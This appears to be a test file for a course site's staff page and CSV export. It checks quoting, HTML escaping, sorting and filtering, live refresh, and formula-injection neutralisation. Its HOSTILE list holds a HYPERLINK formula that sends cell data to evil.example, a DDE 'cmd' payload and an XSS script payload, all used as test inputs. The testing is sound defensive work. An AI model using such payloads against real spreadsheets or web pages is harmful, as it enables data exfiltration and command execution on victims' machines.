// The course page for staff (sort, filter, paging links, live refresh) and the CSV export
// (RFC 4180, BOM, formula injection neutralised).
import { afterAll, describe, expect, test } from "bun:test";
import { createScratch } from "../../scripts/scratch";
import { loadConfig } from "../../src/config";
import { publishChange } from "../../src/queue/queue";
import { csvCell } from "../../src/staff/csv";
import { appsForThisFile, firstAssignment } from "../helpers/app";
import { addAccount, addCompletion, addSubmission, STAFF_EMAIL, staffClient } from "./fixtures";

// A database of its own: the page shows 100 students a page, and the suite's shared database
// holds however many students the files before this one made.
const scratch = await createScratch("staff", loadConfig(process.env));
afterAll(() => scratch.drop());
const t = appsForThisFile()({ STAFF_EMAILS: STAFF_EMAIL, DATABASE_URL: scratch.databaseUrl });

/** RFC 4180 parsing, strict: a quote inside an unquoted cell or an unclosed quote throws. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = "";
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error("unclosed quote");
        if (text[i] === '"' && text[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (text[i] === '"') break;
        else cell += text[i++];
      }
      i++;
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r") {
        if (text[i] === '"' || text[i] === "\n") throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
        cell += text[i++];
      }
    }
    row.push(cell);
    if (text[i] === ",") i++;
    else if (text.startsWith("\r\n", i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (row.length) rows.push(row);
  return rows;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  'Zoë "Zed", Øresund\nsecond line',
  '<img src=x onerror="alert(1)"><script>alert(2)</script>',
];

describe("CSV cells", () => {
  test("a leading = + - @ TAB CR gets a single quote; commas, quotes and newlines are quoted", () => {
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("+1")).toBe("'+1");
    expect(csvCell("-1")).toBe("'-1");
    expect(csvCell("@x")).toBe("'@x");
    expect(csvCell("\tx")).toBe("'\tx");
    expect(csvCell("\rx")).toBe('"\'\rx"');
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell(100)).toBe("100");
    expect(csvCell(null)).toBe("");
  });
});

describe("the course table and its export", async () => {
  const { id: first } = await firstAssignment(t.app);
  const ids = HOSTILE.map(() => crypto.randomUUID());
  for (const [i, name] of HOSTILE.entries()) {
    await addAccount(t, ids[i]!, name, `hostile${i}@example.edu`);
    const s = await addSubmission(t, ids[i]!, first, i === 0 ? "passed" : "failed");
    if (i === 0) await addCompletion(t, ids[i]!, first, s);
  }

  test("the CSV: text/csv, UTF-8 with BOM, a header row, one row per student, formulas neutralised", async () => {
    const { client } = await staffClient(t);
    const res = await client.request("/staff/export.csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="course-\d{4}-\d\d-\d\d\.csv"$/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes).slice(1));
    const header = rows[0]!;
    expect(header.slice(0, 7)).toEqual(["user_id", "name", "email", "points", "solved", "attempts", "last_active"]);
    expect(header).toContain("hello");
    expect(rows.every((r) => r.length === header.length)).toBe(true);
    const students = (await (await client.request("/api/staff/students")).json()) as unknown[];
    expect(rows.length - 1).toBe(students.length);
    const byId = new Map(rows.slice(1).map((r) => [r[0], r]));
    for (const [i, name] of HOSTILE.entries()) {
      const row = byId.get(ids[i]!)!;
      const shown = /^[=+\-@\t\r]/.test(name) ? `'${name}` : name;
      expect(row[1]).toBe(shown);
      expect(row[1]![0]).not.toMatch(/[=+\-@\t\r]/);
    }
    const winner = byId.get(ids[0]!)!;
    expect(winner.slice(3, 6)).toEqual(["100", "1", "1"]);
    expect(winner[header.indexOf("hello")]).toBe("solved");
    expect(byId.get(ids[1]!)![header.indexOf("hello")]).toBe("attempted");
    expect(winner[header.indexOf("sum")]).toBe("not started");
  });

  test("the page: one row per student, sortable and filterable by links and a GET form, escaped names", async () => {
    const { client } = await staffClient(t);
    const page = await (await client.request("/staff")).text();
    expect(page).toContain('id="course-table"');
    expect(page).toContain('hx-sse:connect="/staff/events"');
    expect(page).toContain('hx-trigger="changed from:#staff-live"');
    expect(page).toContain('<form method="get" action="/staff"');
    expect(page).toContain('href="/staff?sort=points&amp;dir=desc"');
    expect(page).toContain('href="/staff/export.csv"');
    expect(page).not.toContain("<script>"); // no inline script (CSP)
    expect(page).toContain("Zoë &quot;Zed&quot;");
    expect(page).toContain("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;&lt;script&gt;");
    expect(page).not.toContain("<img src=x");
    expect(page).toContain(`href="/staff/students/${ids[0]}"`);
    expect(page).toContain(`data-state="solved"`);

    const filtered = await (await client.request("/staff?q=zoë")).text();
    expect(filtered).toContain(ids[6]!);
    expect(filtered).not.toContain(ids[0]!);
    expect(filtered).toContain("Students 1–1 of 1");
    // % and _ are literal, not wildcards
    expect(await (await client.request("/staff?q=%25")).text()).toContain("No students yet.");

    const byPoints = await (await client.request("/staff/table?sort=points&dir=desc&q=hostile")).text();
    expect(byPoints.startsWith('<section id="course-table"')).toBe(true);
    const userOrder = [...byPoints.matchAll(/<tr data-user="([^"]+)"/g)].map((m) => m[1]);
    expect(userOrder[0]).toBe(ids[0]); // the only one of them with points
    expect(userOrder).toHaveLength(HOSTILE.length);
    const byName = await (await client.request("/staff/table?sort=name&dir=asc&q=hostile")).text();
    expect(byName).toContain(`of ${HOSTILE.length}`);
    // unknown sort keys and offsets fall back instead of failing
    expect((await client.request("/staff?sort=password&dir=sideways&offset=-1")).status).toBe(200);
  });

  test("the page is updated live: the event stream says `changed` when a submission changes", async () => {
    const { client } = await staffClient(t);
    const res = await client.request("/staff/events");
    expect(res.headers.get("content-type")).toContain("text/event-stream");
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    let text = "";
    await Bun.sleep(100); // the hub's subscriber is ready
    await publishChange(t.ctx.redis, t.ctx.keys, { id: 1, userId: ids[0]! });
    const deadline = Date.now() + 5000;
    while (!text.includes("event: changed") && Date.now() < deadline) {
      const { value, done } = await Promise.race([reader.read(), Bun.sleep(5000).then(() => ({ value: undefined, done: true }))]);
      if (done) break;
      text += decoder.decode(value);
    }
    await reader.cancel();
    expect(text).toContain("event: changed");
  });

  test("the event stream ends with a retry hint when the process stops", async () => {
    const { client } = await staffClient(t);
    const res = await client.request("/staff/events");
    t.hub.shutdown();
    const text = await Promise.race([res.text(), Bun.sleep(5000).then(() => "still open")]);
    expect(text).toEndWith("retry: 500\n\n");
  });
});
